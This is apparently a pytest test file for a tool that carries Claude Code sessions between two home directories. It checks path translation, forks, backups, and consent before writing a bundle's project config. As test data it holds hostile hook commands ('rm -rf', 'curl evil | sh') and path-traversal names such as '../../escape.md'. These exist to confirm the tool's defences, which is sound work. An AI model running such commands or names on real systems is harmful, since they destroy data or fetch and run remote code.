"""A session moves from home A to home B (another path) and back: whole, translated, safe."""

from __future__ import annotations

import json
import os
import stat
import uuid
from pathlib import Path
from typing import Any

import pytest
from claude_home import (
    DOT_SPACE,
    INTERACTIVE,
    PLAN,
    SUBAGENT,
    TOOLS,
    backup_name,
    carry,
    install,
    transcript,
)
from conftest import settings_for

from commuter import config
from commuter.backends.claude import ClaudeBackend
from commuter.model import ImportOptions, ImportResult
from commuter.settings import Settings


@pytest.fixture
def two(tmp_path: Path) -> tuple[Path, Path, Settings, Settings]:
    a = install(tmp_path / "A home.v1")
    b = tmp_path / "B"
    (b / "code").mkdir(parents=True)
    for name in ("my.app", "My Project.v2", "tui_app"):
        (b / "code" / name).mkdir()
    sa, sb = settings_for(a), settings_for(b)
    config.set_value(sb, "path-map", (str(a / "projects"), str(b / "code")))
    config.set_value(sa, "path-map", (str(a / "projects"), str(b / "code")))
    return a, b, sa, sb


def _dumps(obj: object) -> str:
    return json.dumps(obj, separators=(",", ":"))


def _lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(x) for x in path.read_text(encoding="utf-8").splitlines() if x.strip()]


def test_tools_session_moves_whole_and_translated(two, tmp_path: Path) -> None:
    a, b, sa, sb = two
    proj_a, proj_b = a / "projects" / "my.app", b / "code" / "my.app"
    res = carry(sa, sb, tmp_path / "stage", session=TOOLS, cwd=proj_a)
    assert isinstance(res, ImportResult)
    assert res.action == "created" and res.session_id == TOOLS and res.project_dir == proj_b
    dest = transcript(b, proj_b, TOOLS)
    assert res.transcript == dest
    assert stat.S_IMODE(dest.stat().st_mode) == 0o600
    assert stat.S_IMODE(dest.parent.stat().st_mode) == 0o700
    entries = _lines(dest)
    assert {e["cwd"] for e in entries if "cwd" in e} == {str(proj_b)}
    # prose is untouched: the prompt still names the source path
    prompt = next(e for e in entries if e.get("type") == "queue-operation" and "content" in e)
    assert str(proj_a / "a.txt") in str(prompt["content"])
    reads = [
        e
        for e in entries
        if isinstance(e.get("toolUseResult"), dict) and "file" in e["toolUseResult"]
    ]
    assert reads[0]["toolUseResult"]["file"]["filePath"] == str(proj_b / "a.txt")
    persisted = [
        e["toolUseResult"]["persistedOutputPath"]
        for e in entries
        if isinstance(e.get("toolUseResult"), dict) and "persistedOutputPath" in e["toolUseResult"]
    ]
    assert persisted and Path(persisted[0]).is_file()
    assert Path(persisted[0]).parent == dest.parent / TOOLS / "tool-results"
    # file history: recomputed names, snapshots rewritten
    new_name = backup_name(str(proj_b / "a.txt"))
    assert (b / ".claude" / "file-history" / TOOLS / new_name).is_file()
    snaps = [e for e in entries if e["type"] == "file-history-snapshot"]
    tracked = [s["snapshot"]["trackedFileBackups"] for s in snaps]
    names = {v["backupFileName"] for t in tracked for v in t.values()}
    assert new_name in names and backup_name(str(proj_a / "a.txt")) not in names
    assert (b / ".claude" / "tasks" / TOOLS / "1.json").is_file()
    assert not (b / ".claude" / "tasks" / TOOLS / ".lock").exists()


def test_subagents_plan_and_history_travel(two, tmp_path: Path) -> None:
    a, b, sa, sb = two
    proj_b = b / "code" / "my.app"
    carry(sa, sb, tmp_path / "s1", session=SUBAGENT, cwd=a)
    sub = next((transcript(b, proj_b, SUBAGENT).parent / SUBAGENT / "subagents").glob("*.jsonl"))
    assert {e["cwd"] for e in _lines(sub) if "cwd" in e} == {str(proj_b)}
    carry(sa, sb, tmp_path / "s2", session=PLAN, cwd=a)
    plan = b / ".claude" / "plans" / "plan-a-small-refactor-transient-snowglobe.md"
    assert plan.is_file()
    paths = {
        e["attachment"]["planFilePath"]
        for e in _lines(transcript(b, proj_b, PLAN))
        if isinstance(e.get("attachment"), dict) and "planFilePath" in e["attachment"]
    }
    assert paths == {str(plan)}
    res = carry(sa, sb, tmp_path / "s3", session=INTERACTIVE, cwd=a)
    history = _lines(b / ".claude" / "history.jsonl")
    assert len(history) == 4 and {h["project"] for h in history} == {str(res.project_dir)}
    carry(sa, sb, tmp_path / "s4", session=INTERACTIVE, cwd=a)  # again: no duplicates
    assert len(_lines(b / ".claude" / "history.jsonl")) == 4


def test_continue_at_b_then_back_updates_a_with_backup(two, tmp_path: Path) -> None:
    a, b, sa, sb = two
    proj_a, proj_b = a / "projects" / "My Project.v2", b / "code" / "My Project.v2"
    carry(sa, sb, tmp_path / "s1", session=DOT_SPACE, cwd=a)
    at_b = transcript(b, proj_b, DOT_SPACE)
    last = _lines(at_b)[-1]
    extra = {
        "parentUuid": last.get("uuid"),
        "type": "user",
        "uuid": str(uuid.uuid4()),
        "cwd": str(proj_b),
        "sessionId": DOT_SPACE,
        "message": {"role": "user", "content": "continued at B"},
    }
    with at_b.open("a", encoding="utf-8") as fh:
        fh.write(_dumps(extra) + "\n")
    os.utime(at_b, (2e9, 2e9))
    before = transcript(a, proj_a, DOT_SPACE).read_bytes()
    res = carry(sb, sa, tmp_path / "s2", session=DOT_SPACE, cwd=b)
    assert res.action == "updated" and res.backups
    assert res.backups[0].read_bytes() == before
    back = _lines(transcript(a, proj_a, DOT_SPACE))
    assert back[-1]["message"]["content"] == "continued at B"
    assert {e["cwd"] for e in back if "cwd" in e} == {str(proj_a)}
    again = carry(sb, sa, tmp_path / "s3", session=DOT_SPACE, cwd=b)
    assert again.action == "unchanged"


def test_divergent_import_forks_with_new_id(two, tmp_path: Path) -> None:
    a, b, sa, sb = two
    proj_b = b / "code" / "My Project.v2"
    carry(sa, sb, tmp_path / "s1", session=DOT_SPACE, cwd=a)
    at_a = transcript(a, a / "projects" / "My Project.v2", DOT_SPACE)
    at_b = transcript(b, proj_b, DOT_SPACE)
    for path, text in ((at_a, "only at A"), (at_b, "only at B")):
        with path.open("a", encoding="utf-8") as fh:
            fh.write(
                _dumps(
                    {
                        "type": "user",
                        "uuid": str(uuid.uuid4()),
                        "sessionId": DOT_SPACE,
                        "message": {"role": "user", "content": text},
                        # B's branch began first: it keeps the id (the convergence rule)
                        "timestamp": f"2099-01-01T00:00:0{int(path == at_a)}Z",
                    }
                )
                + "\n"
            )
    local_before = at_b.read_bytes()
    res = carry(sa, sb, tmp_path / "s2", session=DOT_SPACE, cwd=a)
    assert res.action == "forked" and res.original_session_id == DOT_SPACE
    assert res.session_id != DOT_SPACE and uuid.UUID(res.session_id).version == 5
    assert at_b.read_bytes() == local_before
    forked = _lines(transcript(b, proj_b, res.session_id))
    assert {e["sessionId"] for e in forked if "sessionId" in e} == {res.session_id}
    replaced = carry(
        sa, sb, tmp_path / "s3", session=DOT_SPACE, cwd=a, options=ImportOptions(replace=True)
    )
    assert replaced.action == "replaced" and replaced.backups
    assert _lines(at_b)[-1]["message"]["content"] == "only at A"


def test_a_diverged_session_arriving_again_reuses_its_fork(two, tmp_path: Path) -> None:
    a, b, sa, sb = two
    proj_b = b / "code" / "My Project.v2"
    carry(sa, sb, tmp_path / "s1", session=DOT_SPACE, cwd=a)
    at_a = transcript(a, a / "projects" / "My Project.v2", DOT_SPACE)
    at_b = transcript(b, proj_b, DOT_SPACE)

    def say(path: Path, text: str) -> None:
        with path.open("a", encoding="utf-8") as fh:
            fh.write(
                _dumps(
                    {
                        "type": "user",
                        "uuid": str(uuid.uuid4()),
                        "sessionId": DOT_SPACE,
                        "message": {"role": "user", "content": text},
                        "timestamp": f"2099-01-01T00:00:0{int(path == at_a)}Z",
                    }
                )
                + "\n"
            )

    say(at_a, "only at A")
    say(at_b, "only at B")
    first = carry(sa, sb, tmp_path / "s2", session=DOT_SPACE, cwd=a)
    assert first.action == "forked"
    fork = transcript(b, proj_b, first.session_id)
    again = carry(sa, sb, tmp_path / "s3", session=DOT_SPACE, cwd=a)  # the same bundle again
    assert again.action == "unchanged" and again.session_id == first.session_id
    assert any(f"imported before as the fork {first.session_id}" in w for w in again.warnings)
    say(at_a, "A went on")
    fork_before = fork.read_bytes()
    later = carry(sa, sb, tmp_path / "s4", session=DOT_SPACE, cwd=a)  # A continued its side
    assert later.action == "updated" and later.session_id == first.session_id
    assert [p.read_bytes() for p in later.backups] == [fork_before]
    assert _lines(fork)[-1]["message"]["content"] == "A went on"
    assert {e["sessionId"] for e in _lines(fork) if "sessionId" in e} == {first.session_id}
    assert sorted(p.name for p in proj_b_folder(b, proj_b).glob("*.jsonl")) == sorted(
        [f"{DOT_SPACE}.jsonl", f"{first.session_id}.jsonl"]
    )
    assert "only at B" in at_b.read_text()


def proj_b_folder(home: Path, project: Path) -> Path:
    return transcript(home, project, DOT_SPACE).parent


def test_local_newer_is_kept(two, tmp_path: Path) -> None:
    a, b, sa, sb = two
    proj_b = b / "code" / "My Project.v2"
    carry(sa, sb, tmp_path / "s1", session=DOT_SPACE, cwd=a)
    at_b = transcript(b, proj_b, DOT_SPACE)
    with at_b.open("a", encoding="utf-8") as fh:
        fh.write(_dumps({"type": "user", "uuid": str(uuid.uuid4())}) + "\n")
    newer = at_b.read_bytes()
    res = carry(sa, sb, tmp_path / "s2", session=DOT_SPACE, cwd=a)
    assert res.action == "unchanged" and any("newer" in w for w in res.warnings)
    assert at_b.read_bytes() == newer


def test_project_config_needs_consent(two, tmp_path: Path) -> None:
    a, b, sa, sb = two
    proj_a, proj_b = a / "projects" / "tui_app", b / "code" / "tui_app"
    (proj_a / ".claude" / "commands").mkdir(parents=True)
    (proj_a / ".claude" / "settings.json").write_text('{"hooks": {"x": "rm -rf"}}')
    (proj_a / "CLAUDE.md").write_text("be nice\n")
    (proj_a / ".claude" / "commands" / "go.md").write_text("go\n")
    (proj_b / ".claude").mkdir()
    (proj_b / ".claude" / "settings.json").write_text("{}")
    (proj_b / "CLAUDE.md").write_text("be nice\n")
    res = carry(sa, sb, tmp_path / "s1", session=INTERACTIVE, cwd=a, options=FROM_PEER)
    assert res.action == "created"
    assert (proj_b / ".claude" / "settings.json").read_text() == "{}"
    assert any("settings.json" in w for w in res.warnings)
    assert (proj_b / ".claude" / "commands" / "go.md").read_text() == "go\n"
    res2 = carry(
        sa, sb, tmp_path / "s2", session=INTERACTIVE, cwd=a, options=ImportOptions(assume_yes=True)
    )
    assert "rm -rf" in (proj_b / ".claude" / "settings.json").read_text()
    assert any(p.name == "settings.json" and p.read_text() == "{}" for p in res2.backups)


# What a pull passes for a bundle sealed by a paired peer whose seal checked out.
FROM_PEER = ImportOptions(sender_verified=True)


def test_plain_bundle_writes_no_project_config_without_consent(two, tmp_path: Path) -> None:
    # Anyone who can write to a shared folder can drop a plain bundle naming any project dir:
    # its CLAUDE.md and commands (which may hold `!` shell lines) steer the agent there.
    a, b, sa, sb = two
    _project_config_at_a(a)
    proj_b = b / "code" / "tui_app"
    res = carry(sa, sb, tmp_path / "s1", session=INTERACTIVE, cwd=a, options=ImportOptions())
    assert res.action == "created"
    assert not (proj_b / "CLAUDE.md").exists()
    assert not (proj_b / ".claude").exists()
    assert (
        "did not write the bundle's CLAUDE.md: the bundle is not sealed by a paired peer "
        "(--yes takes it)"
    ) in res.warnings
    assert any(".claude/commands/go.md" in w and "not sealed" in w for w in res.warnings)
    dry = carry(
        sa, sb, tmp_path / "s2", session=INTERACTIVE, cwd=a, options=ImportOptions(dry_run=True)
    )
    assert any("CLAUDE.md" in w and "not sealed by a paired peer" in w for w in dry.warnings)
    asked: list[str] = []

    def yes_to_claude_md(question: str, choices: tuple[str, ...]) -> str:
        asked.append(question)
        return "yes" if "CLAUDE.md" in question else "no"

    carry(
        sa,
        sb,
        tmp_path / "s3",
        session=INTERACTIVE,
        cwd=a,
        options=ImportOptions(interactive=True, ask=yes_to_claude_md),
    )
    assert (
        "the bundle (not sealed by a paired peer) brings CLAUDE.md, which steers claude; write it?"
    ) in asked
    assert (proj_b / "CLAUDE.md").read_text() == "from A\n"
    assert not (proj_b / ".claude" / "commands" / "go.md").exists()
    carry(
        sa, sb, tmp_path / "s4", session=INTERACTIVE, cwd=a, options=ImportOptions(assume_yes=True)
    )
    assert (proj_b / ".claude" / "commands" / "go.md").read_text() == "go\n"


def _project_config_at_a(a: Path) -> Path:
    proj_a = a / "projects" / "tui_app"
    (proj_a / ".claude" / "commands").mkdir(parents=True, exist_ok=True)
    (proj_a / ".claude" / "settings.json").write_text('{"hooks": {"x": "curl evil | sh"}}')
    (proj_a / "CLAUDE.md").write_text("from A\n")
    (proj_a / ".claude" / "commands" / "go.md").write_text("go\n")
    return proj_a


def test_a_new_settings_file_needs_consent_too(two, tmp_path: Path) -> None:
    # B has no settings.json: the bundle's (hooks run commands) is still not written silently.
    a, b, sa, sb = two
    _project_config_at_a(a)
    proj_b = b / "code" / "tui_app"
    res = carry(sa, sb, tmp_path / "s1", session=INTERACTIVE, cwd=a, options=FROM_PEER)
    assert res.action == "created"
    assert not (proj_b / ".claude" / "settings.json").exists()
    assert any("did not write the bundle's .claude/settings.json" in w for w in res.warnings)
    assert (proj_b / "CLAUDE.md").read_text() == "from A\n"  # new, harmless files arrive
    assert (proj_b / ".claude" / "commands" / "go.md").read_text() == "go\n"
    asked: list[str] = []

    def no(question: str, choices: tuple[str, ...]) -> str:
        asked.append(question)
        return "no"

    carry(
        sa,
        sb,
        tmp_path / "s2",
        session=INTERACTIVE,
        cwd=a,
        options=ImportOptions(interactive=True, ask=no, sender_verified=True),
    )
    assert asked == [
        "the bundle brings .claude/settings.json, which can run commands (hooks); write it?"
    ]
    assert not (proj_b / ".claude" / "settings.json").exists()
    carry(
        sa,
        sb,
        tmp_path / "s3",
        session=INTERACTIVE,
        cwd=a,
        options=ImportOptions(interactive=True, ask=lambda q, c: "yes"),
    )
    assert "curl evil" in (proj_b / ".claude" / "settings.json").read_text()


def test_a_different_claude_md_is_kept_then_replaced_with_yes_after_a_backup(
    two, tmp_path: Path
) -> None:
    a, b, sa, sb = two
    _project_config_at_a(a)
    proj_b = b / "code" / "tui_app"
    (proj_b / "CLAUDE.md").write_text("mine at B\n")
    res = carry(sa, sb, tmp_path / "s1", session=INTERACTIVE, cwd=a, options=ImportOptions())
    assert (proj_b / "CLAUDE.md").read_text() == "mine at B\n"
    assert "kept your CLAUDE.md; the bundle's differs (--yes takes it)" in res.warnings
    res = carry(
        sa, sb, tmp_path / "s2", session=INTERACTIVE, cwd=a, options=ImportOptions(assume_yes=True)
    )
    assert (proj_b / "CLAUDE.md").read_text() == "from A\n"
    assert [p.read_text() for p in res.backups if p.name == "CLAUDE.md"] == ["mine at B\n"]


def test_project_config_never_lands_in_claudes_own_config_dir(two, tmp_path: Path) -> None:
    # A session whose project is ~ itself: its ~/.claude/settings.json is the user's global one.
    a, b, sa, sb = two
    _project_config_at_a(a)
    res = carry(
        sa,
        sb,
        tmp_path / "s1",
        session=INTERACTIVE,
        cwd=a,
        options=ImportOptions(assume_yes=True, project_dir=b),
    )
    assert res.project_dir == b
    assert not (b / ".claude" / "settings.json").exists()
    assert not (b / ".claude" / "commands").exists()
    assert any("Claude Code's own config dir" in w for w in res.warnings)
    assert (b / "CLAUDE.md").read_text() == "from A\n"  # ~/CLAUDE.md is a project file


def test_oversized_project_member_is_not_written(two, tmp_path: Path) -> None:
    from claude_home import DirSink

    from commuter.backends import ImportSource
    from commuter.backends.claude import ClaudeBackend

    a, b, sa, sb = two
    _project_config_at_a(a)
    plan = ClaudeBackend(sa).collect(ClaudeBackend(sa).find(INTERACTIVE, a))
    sink = DirSink(tmp_path / "stage")
    plan.write_members(sink)
    (tmp_path / "stage" / "project" / "CLAUDE.md").write_bytes(b"x" * (2 << 20))  # hostile
    source = ImportSource(
        session_id=plan.session_id,
        project_dir=plan.project_dir,
        root=tmp_path / "stage",
        members=tuple(sink.names),
        git=plan.git,
        meta=plan.meta,
        origin="t@a",
    )
    res = ClaudeBackend(sb).place(source, ImportOptions(assume_yes=True))
    assert not (b / "code" / "tui_app" / "CLAUDE.md").exists()
    assert "did not write the bundle's CLAUDE.md: larger than 1 MiB" in res.warnings


def test_history_is_appended_not_rewritten(two, tmp_path: Path) -> None:
    # A running claude holds ~/.claude/history.jsonl open for appending: its later lines stay.
    a, b, sa, sb = two
    history = b / ".claude" / "history.jsonl"
    history.parent.mkdir(parents=True)
    history.write_bytes(b'{"display":"older","timestamp":1}')  # no final newline
    with history.open("ab") as running_claude:
        carry(sa, sb, tmp_path / "s1", session=INTERACTIVE, cwd=a)
        running_claude.write(b'{"display":"typed meanwhile","timestamp":2}\n')
    lines = _lines(history)
    assert lines[0]["display"] == "older" and lines[-1]["display"] == "typed meanwhile"
    assert len(lines) == 6  # 1 + the session's 4 + 1


def test_dry_run_writes_nothing(two, tmp_path: Path) -> None:
    a, b, sa, sb = two
    res = carry(sa, sb, tmp_path / "s1", session=TOOLS, cwd=a, options=ImportOptions(dry_run=True))
    assert res.action == "dry-run"
    assert not (b / ".claude").exists()


def test_missing_project_is_a_clear_error(two, tmp_path: Path) -> None:
    from commuter.errors import BackendError

    a, b, sa, sb = two
    config.unset_value(sb, "path-map")
    import shutil

    shutil.rmtree(a / "projects" / "my.app")
    with pytest.raises(BackendError, match="--project-dir"):
        carry(sa, sb, tmp_path / "s1", session=TOOLS, cwd=a, options=ImportOptions())
    assert not (b / ".claude").exists()


def test_interactive_choices(two, tmp_path: Path) -> None:
    from commuter.errors import BackendError

    a, b, sa, sb = two
    proj_b = b / "code" / "My Project.v2"
    carry(sa, sb, tmp_path / "s1", session=DOT_SPACE, cwd=a)
    at_a = transcript(a, a / "projects" / "My Project.v2", DOT_SPACE)
    at_b = transcript(b, proj_b, DOT_SPACE)
    for path in (at_a, at_b):
        with path.open("a", encoding="utf-8") as fh:
            fh.write(_dumps({"type": "user", "uuid": str(uuid.uuid4())}) + "\n")
    local = at_b.read_bytes()
    asked: list[str] = []

    def cancel(question: str, choices: tuple[str, ...]) -> str:
        asked.append(question)
        return "cancel"

    with pytest.raises(BackendError, match="cancelled"):
        carry(
            sa,
            sb,
            tmp_path / "s2",
            session=DOT_SPACE,
            cwd=a,
            options=ImportOptions(interactive=True, ask=cancel),
        )
    assert asked and at_b.read_bytes() == local
    res = carry(
        sa,
        sb,
        tmp_path / "s3",
        session=DOT_SPACE,
        cwd=a,
        options=ImportOptions(interactive=True, ask=lambda q, c: "replace"),
    )
    assert res.action == "replaced" and at_b.read_bytes() != local


def test_hostile_names_write_nothing_outside(tmp_path: Path) -> None:
    from commuter.backends import ImportSource
    from commuter.backends.claude import ClaudeBackend
    from commuter.errors import BackendError

    b = tmp_path / "B"
    proj = b / "proj"
    proj.mkdir(parents=True)
    stage = tmp_path / "stage"
    sid = "11111111-1111-4111-8111-111111111111"
    names = {
        f"session/{sid}.jsonl": b'{"type":"user","uuid":"u","cwd":"/src"}\n',
        "tasks/..json": b"x",
        "tasks/.hidden.json": b"x",
        "plans/evil.sh": b"x",
        f"session/{sid}/subagents/..": b"x",
        f"session/{sid}/other/x.txt": b"x",
        "project/.git/config": b"x",
        "project/.claude/../../escape.md": b"x",
        "file-history/..": b"x",
    }
    for name, data in names.items():
        path = stage / name.replace("..", "dotdot")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    members = tuple(n for n in names if ".." not in n) + tuple(n for n in names if ".." in n)
    backend = ClaudeBackend(settings_for(b))
    src = ImportSource(
        session_id=sid,
        project_dir="/src",
        root=stage,
        members=members,
        meta={"plan_slug": "../../evil"},
    )
    res = backend.place(src, ImportOptions(project_dir=proj, assume_yes=True))
    assert res.action == "created"
    written = {p.relative_to(b).as_posix() for p in b.rglob("*") if p.is_file()}
    from commuter.backends.claude.paths import claude_project_folder

    assert written == {f".claude/projects/{claude_project_folder(str(proj))}/{sid}.jsonl"}
    for bad_sid in ("../../etc", "x" * 36):
        with pytest.raises(BackendError, match="invalid session id"):
            backend.place(
                ImportSource(session_id=bad_sid, project_dir="/src", root=stage, members=()),
                ImportOptions(project_dir=proj),
            )


def test_continue_hint_fits_how_the_session_was_made(two, tmp_path: Path) -> None:
    # Interactive `claude --continue` skips sessions made by `claude -p` (session-formats §1.4).
    a, _, sa, sb = two
    made_by_p = carry(sa, sb, tmp_path / "s1", session=TOOLS, cwd=a / "projects" / "my.app")
    assert made_by_p.extra["print_mode"]
    line = ClaudeBackend(sb).continue_command(made_by_p)
    assert line.split(" && ")[1].startswith("claude -p --continue")
    interactive = carry(sa, sb, tmp_path / "s2", session=INTERACTIVE, cwd=a)
    assert not interactive.extra["print_mode"]
    assert ClaudeBackend(sb).continue_command(interactive).endswith(" && claude --continue")


def test_a_fork_gets_its_own_plan_and_leaves_the_local_plan_alone(two, tmp_path: Path) -> None:
    a, b, sa, sb = two
    slug = "plan-a-small-refactor-transient-snowglobe"
    carry(sa, sb, tmp_path / "s1", session=PLAN, cwd=a)
    at_a = transcript(a, a / "projects" / "my.app", PLAN)
    at_b = transcript(b, b / "code" / "my.app", PLAN)
    plan_a, plan_b = (h / ".claude" / "plans" / f"{slug}.md" for h in (a, b))

    def say(path: Path, text: str) -> None:
        with path.open("a", encoding="utf-8") as fh:
            fh.write(
                _dumps(
                    {
                        "type": "user",
                        "uuid": str(uuid.uuid4()),
                        "sessionId": PLAN,
                        "slug": slug,
                        "message": {"role": "user", "content": text},
                        "timestamp": f"2099-01-01T00:00:0{int(path == at_a)}Z",
                    }
                )
                + "\n"
            )

    say(at_a, "only at A")
    say(at_b, "only at B")
    plan_a.write_text("# the plan as A changed it\n")
    plan_b.write_text("# the plan as B changed it\n")
    local_before = at_b.read_bytes()
    res = carry(sa, sb, tmp_path / "s2", session=PLAN, cwd=a)
    assert res.action == "forked"
    assert plan_b.read_text() == "# the plan as B changed it\n"
    assert at_b.read_bytes() == local_before
    own = b / ".claude" / "plans" / f"{slug}-{res.session_id[:8]}.md"
    assert own.read_text() == "# the plan as A changed it\n"
    fork = _lines(transcript(b, b / "code" / "my.app", res.session_id))
    assert {e["slug"] for e in fork if "slug" in e} == {own.stem}
    paths = {
        e["attachment"]["planFilePath"]
        for e in fork
        if isinstance(e.get("attachment"), dict) and "planFilePath" in e["attachment"]
    }
    assert paths == {str(own)}
    # A goes on: the same fork is updated, with the same plan file, and B's plan still stands.
    say(at_a, "A went on")
    plan_a.write_text("# A's plan, later\n")
    later = carry(sa, sb, tmp_path / "s3", session=PLAN, cwd=a)
    assert later.action == "updated" and later.session_id == res.session_id
    assert own.read_text() == "# A's plan, later\n"
    assert plan_b.read_text() == "# the plan as B changed it\n"
